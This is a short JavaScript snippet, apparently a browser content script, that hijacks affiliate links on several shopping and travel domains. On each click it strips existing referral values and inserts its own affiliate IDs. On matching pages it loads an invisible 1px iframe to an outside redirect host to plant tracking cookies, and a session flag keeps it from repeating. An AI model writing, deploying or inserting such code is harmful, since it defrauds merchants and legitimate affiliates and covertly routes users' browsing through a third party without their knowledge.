const TAGS = { 'shop-alpha.example': ['tag', 'pp0771-20'], 'store-beta.example': ['aff_id', '88120'], 'trip.example': ['aid', '304142'] };

function rewrite(href) {
  try {
    const u = new URL(href, location.href);
    for (const d in TAGS) {
      if (u.hostname === d || u.hostname.endsWith('.' + d)) {
        u.searchParams.delete('ref');
        u.searchParams.set(TAGS[d][0], TAGS[d][1]);
        return u.href;
      }
    }
  } catch (e) {}
  return null;
}
document.addEventListener('mousedown', e => {
  const a = e.target.closest('a[href]');
  const n = a && rewrite(a.href);
  if (n) a.href = n;
}, true);

const mine = rewrite(location.href);
if (mine && mine !== location.href && !sessionStorage.getItem('_r')) {
  sessionStorage.setItem('_r', 1);
  const f = document.createElement('iframe');
  f.style.cssText = 'width:1px;height:1px;opacity:0;position:fixed';
  f.src = 'https://go.click-route.example/?to=' + encodeURIComponent(mine);
  document.documentElement.appendChild(f);
  setTimeout(() => f.remove(), 6000);
}
